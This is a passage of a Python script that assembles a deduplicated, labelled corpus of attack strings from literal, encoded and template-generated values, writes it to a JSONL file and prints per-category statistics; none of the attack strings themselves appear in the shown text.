        for cat, cls, v in encoded:
            if cat != name:
                continue
            if v in seen:
                raise SystemExit("duplicate encoded value: %r" % v)
            seen.add(v)
            rows.append((name, cls, v))
            tpl += 1
        made = 0
        tries = 0
        while made < n_tpl:
            tries += 1
            if tries > 5000:
                raise SystemExit("%s: template exhausted" % name)
            cls, v = template(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((name, cls, v))
            made += 1
        stats[name] = (lit + tpl + made, lit)
    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        if not isinstance(v, str) or not v or len(v) > MAX_LEN:
            raise SystemExit("bad value %r" % v)
        out.append({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls, "label": "attack", "value": v})
    return out, stats, order


def main():
    rows, stats, order = build()
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for row in rows:
            fh.write(json.dumps(row, ensure_ascii=False) + "\n")
    total_lit = 0
    for name in order:
        n, lit = stats[name]
        total_lit += lit
        print("%-12s %3d  (literals %d)" % (name, n, lit))
    plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    enc = sum(1 for r in rows if "+" in r["class"])
    print("total %d attacks, %d literals (%.1f%%), plain %d, encoded %d -> %s" % (
        len(rows), total_lit, 100.0 * total_lit / len(rows), plain, enc, path.name))
    if total_lit * 100 < 80 * len(rows):
        raise SystemExit("literal share below 80%")
    return 0


if __name__ == "__main__":
    sys.exit(main())
